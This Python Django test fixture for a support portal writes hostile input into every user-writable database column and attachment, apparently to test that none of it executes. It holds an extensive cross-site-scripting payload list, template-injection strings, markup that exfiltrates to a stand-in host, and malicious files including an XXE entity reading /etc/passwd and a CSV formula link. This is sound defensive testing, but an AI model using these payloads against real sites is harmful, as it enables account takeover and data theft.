"""A portal in which whatever people can write is hostile, for the test that nothing of it runs (P-7)."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, time, timedelta
from typing import Any

from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, models

from accounts import clock
from accounts.calendars.choices import Choices, OwnDay
from accounts.models import (
    KnownBrowser,
    MailChange,
    Organisation,
    Person,
    RoleMapping,
    SignOnIdentity,
    SingleSignOn,
    WebhookAttempt,
)
from accounts.rota import Span
from accounts.services import duty_patterns, rota
from accounts.services.calendars import change_calendar
from accounts.services.delegation_asks import ask_for_delegation
from accounts.services.invitations import invite_person
from tests import factories
from tests.tickets import making
from tickets.models import ServiceRequest
from tickets.services import assignment, conversation, disputes, escalation, incidents, policies, tags, translators
from tickets.services.attachments import attach_file
from tickets.services.closing import Ending, close_request
from tickets.services.corrections import correct_request
from tickets.services.endpoints import create_endpoint, send_test
from tickets.services.engagements import Wish, request_engagement
from tickets.services.incident_links import link_incident
from tickets.services.severity import change_severity
from tickets.services.surveys import Opinion, answer_survey
from tickets.services.sweeping import sweep

OURS = ("accounts", "selfhelp", "sla", "tickets")
# One line that would break out of an element, an attribute in either quotes, a title, a textarea and a template.
LINE = "'\"></title></textarea><img src=//canary.invalid/ onerror=canary()><script>canary()</script>{{7*7}}"
MARKDOWN = (
    "<script>canary()</script>",
    "<ScRiPt/x>canary()</sCrIpT >",
    "<img src=x onerror=canary()>",
    "<svg onload=canary()><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:canary()'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src='javascript:canary()'></iframe><object data='data:text/html,<script>canary()</script>'></object>",
    "<embed src='//canary.invalid/'><link rel=stylesheet href='//canary.invalid/x.css'><base href='//canary.invalid/'>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/'>",
    "<style>*{background:url(//canary.invalid/);color:red}</style><p style='background:url(//canary.invalid/)'>x</p>",
    "<form action='//canary.invalid/'><button formaction='javascript:canary()'>send</button><input name=password>",
    "<div hx-get='/canary/' hx-trigger=load hx-on::load='canary()' data-hx-get='/canary/'>x</div>",
    "<div _='on load call canary()' x-data x-init='canary()' v-html='canary()' ng-app>x</div>",
    "<p ng-app>{{constructor.constructor('canary()')()}}</p>",
    "<details open ontoggle=canary()><summary>x</summary></details><video><source onerror=canary()></video>",
    "<input autofocus onfocus=canary()><body onload=canary()><marquee onstart=canary()>",
    "<img src='//canary.invalid/?leak=",
    "<a href='//canary.invalid/'><textarea>",
    "[click](javascript:canary()) [click](JaVaScRiPt&colon;canary()) [click](&#106;avascript:canary())",
    "[click](data:text/html,<script>canary()</script>) [click](vbscript:canary()) [x](//canary.invalid/)",
    "![x](//canary.invalid/x.png) ![x](javascript:canary()) ![x\"onerror=\"canary()](x)",
    "[x]: javascript:canary() \"title\"\n[x] [a][x]",
    "[x](http://example.com/ \"onmouseover=canary() x='\" )",
    "<javascript:canary()> <http://canary.invalid/\" onclick=\"canary()>",
    "```html\"onload=canary()\n<script>canary()</script>\n```",
    "`<img src=x onerror=canary()>` **<b onclick=canary()>x** ~~<s/onclick=canary()>~~",
    "| <img src=x onerror=canary()> | [x](javascript:canary()) |\n|---|---|\n| \"onclick=canary() | <td onclick=x> |",
    "<!--[if gte IE 4]><script>canary()</script><![endif]--> <!--><img src=x onerror=canary()>-->",
    "<![CDATA[<script>canary()</script>]]> <?php canary() ?> <%= canary() %> ${canary()} #{canary()} {% debug %}",
    "<a id=portal><a id=portal name=config href='canary:1'><form id=htmx><input name=config>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "&lt;script&gt;canary()&lt;/script&gt; \\x3cscript\\x3ecanary()\\x3c/script\\x3e",
)  # fmt: skip
LONG = "\n\n".join(MARKDOWN)
# Codes, keys and hashes of ours, and addresses that staff alone bring in and a validator holds to http.
CODES = "reference slug code number kind ref via notice availability previous corrected region country engine_version"
KEYS = "key preview_key digest body_digest sha256 hash salt stand_in message_id request_id identity secret client_id"
MORE = "session_data bucket path sealed_secret former_secret callback_key"
OTHERS = "password timezone language content_type destination address indexed_as url provider_id algorithm"
NOT_WRITTEN = frozenset(f"{CODES} {KEYS} {MORE} {OTHERS}".split())
SHORTEST = 80  # characters; what is shorter is a code
SPOKEN = frozenset(
    {"names", "titles", "summaries", "bodies", "descriptions", "own_days"}
)  # JSON whose every text is shown
FILES: dict[str, bytes] = {
    "picture.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='canary()'><script>canary()</script></svg>",
    "page.html": b"<!doctype html><script>(window.opener||parent).canary();location='//canary.invalid/'</script>",
    "page.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>canary()</script></html>",
    "feed.xml": b"<?xml version='1.0'?><?xml-stylesheet href='//canary.invalid/x.xsl' type='text/xsl'?><!DOCTYPE a "
    b"[<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a xmlns:h='http://www.w3.org/1999/xhtml'>&x;<h:script>canary()</h:script></a>",
    "polyglot.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;canary();",
    "script.js": b"canary()",
    "form.pdf": b"%PDF-" + b"1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
    "letter.eml": b"Content-Type: text/html\n\n<script>canary()</script>",
    "notes.md": LONG.encode(),
    "sheet.csv": b'=HYPERLINK("//canary.invalid/")\n',
    "bomb.zip": b"PK\x03\x04" + b"\0" * 60,
    "style.css": b"@import '//canary.invalid/x.css';",
}


def hostile_portal() -> tuple[dict[str, Person], ServiceRequest]:
    """People by role, and a request with all that can hang on one; every text of every table is hostile."""
    organisation = factories.make_organisation("lotus", name="Lotus")
    factories.make_subscription(organisation)
    admin = factories.make_person(organisation, "global_admin")
    roles = ("engineer", "senior_engineer", "team_lead", "duty_manager", "operator", "account_manager")
    desk = factories.make_staff(*roles)
    factories.make_elevated_contract(organisation, account_manager=desk, starts_at=clock.now())
    partner = factories.make_person(factories.make_partner("lily", name="Lily"), "global_admin")
    factories.make_delegation(organisation, partner.organisation, granted_by=admin)
    _listen(admin, desk)
    _ask(partner, organisation)
    _engage(admin)
    _single_sign_on(organisation, admin)
    factories.make_token(admin)
    guest: dict[str, Any] = {"email": "guest@example.com", "name": "Guest", "roles": ["reader"], "language": "en"}
    invite_person(**guest, actor=factories.actor(admin))
    wish: dict[str, Any] = {"old_email": admin.email, "new_email": "new@example.com", "requested_at": clock.now()}
    MailChange.objects.create(person=admin, expires_at=clock.now() + timedelta(days=1), **wish)
    for person in (admin, desk, partner):
        factories.browser_of(person)
        KnownBrowser.objects.create(person=person, digest="x", user_agent="Firefox/130.0")
    service_request = _busy_request(admin, desk)
    _incident(desk, service_request.number)
    _closed_request(admin, desk)
    _surroundings(organisation, admin, desk)
    poison()
    people = {"admin": admin, "desk": desk, "partner": partner, "end_user": factories.make_person(organisation)}
    return people, service_request


def _listen(*people: Person) -> None:
    """A webhook endpoint of the customer and one of the desk, each with an answer in its log."""
    for person in people:
        actor = factories.actor(person)
        made = create_endpoint(
            url="https://hooks.example.com/", types=["request.created"], description="x", actor=actor
        )
        sent = send_test(endpoint_id=made.endpoint.pk, actor=actor)
        WebhookAttempt.objects.create(delivery=sent, took_ms=80, status=500, answer="x")


def _ask(partner: Person, customer: Organisation) -> None:
    until = clock.now() + timedelta(days=90)
    wish: dict[str, Any] = {"customer": customer.slug, "duties": ["billing_admin"], "reason": "To help."}
    ask_for_delegation(**wish, wished_until=until, actor=factories.actor(partner))


def _engage(admin: Person) -> None:
    day = clock.now().date() + timedelta(days=9)
    wish = Wish("workshop", "A workshop", "For twelve.", wished_from=day, wished_until=day, place="Kaohsiung")
    request_engagement(wish=wish, actor=factories.actor(admin))


def _incident(desk: Person, number: str) -> None:
    what = incidents.Declaration("Mail is down", ["exchange_online"], "outage", "We look.")
    made = incidents.declare_incident(declaration=what, actor=factories.actor(desk)).number
    incidents.note_on_incident(number=made, body="The cable.", actor=factories.actor(desk))
    link_incident(number=number, incident_number=made, actor=factories.actor(desk))


def _single_sign_on(organisation: Organisation, admin: Person) -> None:
    way: dict[str, Any] = {"issuer": "https://issuer.example.com", "client_id": "portal", "sealed_secret": "x"}
    sign_on = SingleSignOn.objects.create(organisation=organisation, callback_key="k" * 43, **way)
    RoleMapping.objects.create(sign_on=sign_on, value="helpers", role="reader")
    SignOnIdentity.objects.create(organisation=organisation, person=admin, issuer=way["issuer"], subject="x")


def _busy_request(admin: Person, desk: Person) -> ServiceRequest:
    customer, engineer = factories.actor(admin), factories.actor(desk)
    number = making.filed(customer, now=clock.now() - timedelta(hours=3)).number
    assignment.take_request(number=number, actor=engineer)
    conversation.reply_publicly(number=number, actor=engineer, body="We look at it.")
    conversation.add_customer_message(number=number, actor=customer, body="Thank you.")
    conversation.add_internal_note(number=number, actor=engineer, body="Odd.")
    conversation.log_call(number=number, actor=engineer, body="Spoke.")
    escalation.escalate_request(number=number, actor=customer, reason="business_impact", justification="Shops.")
    escalation.escalate_to_senior(number=number, actor=engineer, reason="technical_expertise", note="Certificates.")
    translators.ask_translator(number=number, actor=customer, language="vi", wish="Any time.")
    meeting = translators.Arrangement("Mei-Ling", clock.now() + timedelta(days=1), "Dial in.")
    translators.arrange_translator(number=number, actor=engineer, arrangement=meeting)
    correct_request(number=number, actor=engineer, particulars={"scope": "third_party"}, note="Theirs.")
    tags.tag_request(number=number, actor=engineer, add=[tags.add_tag(name="Odd", actor=engineer).name])
    disputes.dispute_severity(number=number, actor=customer, severity="B", statement="Less.")
    disputes.decline_dispute(number=number, actor=engineer, reason="No.")
    change_severity(number=number, actor=engineer, severity="B", reason="Works again.")
    for name, content in FILES.items():
        if name in ("picture.svg", "polyglot.gif"):
            attach_file(number=number, actor=customer, upload=SimpleUploadedFile(name, content))
    return ServiceRequest.objects.get(number=number)


def _closed_request(admin: Person, desk: Person) -> None:
    at = clock.now() - timedelta(days=3)
    row = making.filed(factories.actor(admin), severity="C", now=at)
    ending = Ending("solved", "It works.")
    close_request(number=row.number, actor=factories.actor(desk), ending=ending, now=at + timedelta(hours=1))
    sweep()
    answer_survey(number=row.number, actor=factories.actor(admin), opinion=Opinion(1, False, "Slow."))


def _surroundings(organisation: Organisation, admin: Person, desk: Person) -> None:
    lead = factories.actor(desk)
    policies.start_draft(actor=lead, name="A draft", version=1)
    today = clock.now().date()
    span = Span(clock.now(), clock.now() + timedelta(hours=4))
    rota.add_shift(role="duty_manager", team="", person_id=desk.pk, span=span, actor=lead)
    days: dict[str, Any] = {"weekdays": [0, 1, 2], "starts": time(9), "ends": time(17), "first_day": today}
    duty_patterns.add_pattern(role="on_call", team="", person_id=desk.pk, timezone="Asia/Taipei", actor=lead, **days)
    windows = {str(day): [["09:00", "17:00"]] for day in range(5)}
    own = (OwnDay(date(today.year + 1, 3, 3), "Founding day", yearly=True),)
    choices = Choices(timezone="Asia/Taipei", windows=windows, country="TW", own_days=own)
    change_calendar(slug=organisation.slug, choices=choices, actor=factories.actor(admin), note="A note")


def poison() -> None:
    """Write hostile text into every column that holds words, past services and triggers, as one who got by them."""
    for model in _models():
        table = connection.ops.quote_name(model._meta.db_table)
        with connection.cursor() as cursor:
            cursor.execute(f"ALTER TABLE {table} DISABLE TRIGGER USER")
            for field in (field for each, field in written_columns() if each is model):
                rows = model._default_manager.all()
                for pk, value in rows.values_list("pk", field.attname):
                    rows.filter(pk=pk).update(**{field.attname: _poisoned(field, pk, value)})
            cursor.execute(f"ALTER TABLE {table} ENABLE TRIGGER USER")


def written_columns() -> Iterator[tuple[type[models.Model], models.Field[Any, Any]]]:
    """Every column that holds what people write; whatever is new is one until NOT_WRITTEN says otherwise."""
    for model in _models():
        for field in model._meta.local_fields:
            if field.name not in NOT_WRITTEN and not field.choices and (_is_text(field) or field.name in SPOKEN):
                yield model, field


def _models() -> list[type[models.Model]]:
    managed = [model for label in OURS for model in apps.get_app_config(label).get_models()]
    return [model for model in managed if model._meta.managed and not model._meta.proxy]


def _is_text(field: models.Field[Any, Any]) -> bool:
    if isinstance(field, models.EmailField | models.TextField):
        return True
    return isinstance(field, models.CharField) and (field.max_length or 0) >= SHORTEST


def _poisoned(field: models.Field[Any, Any], pk: Any, value: Any) -> Any:
    if field.name in SPOKEN:
        return _hostile_words(value)
    if isinstance(field, models.EmailField):
        return f'"<img/src=x/onerror=canary()>{pk}"@example.com'
    if field.max_length is None:
        return LONG
    return f"{pk if field.unique else ''}{LINE}"[: field.max_length]


def _hostile_words(value: Any) -> Any:
    """The same document with every text in it hostile; keys and dates stay."""
    if isinstance(value, dict):
        return {key: inner if key == "date" else _hostile_words(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [_hostile_words(inner) for inner in value]
    return LINE if isinstance(value, str) else value
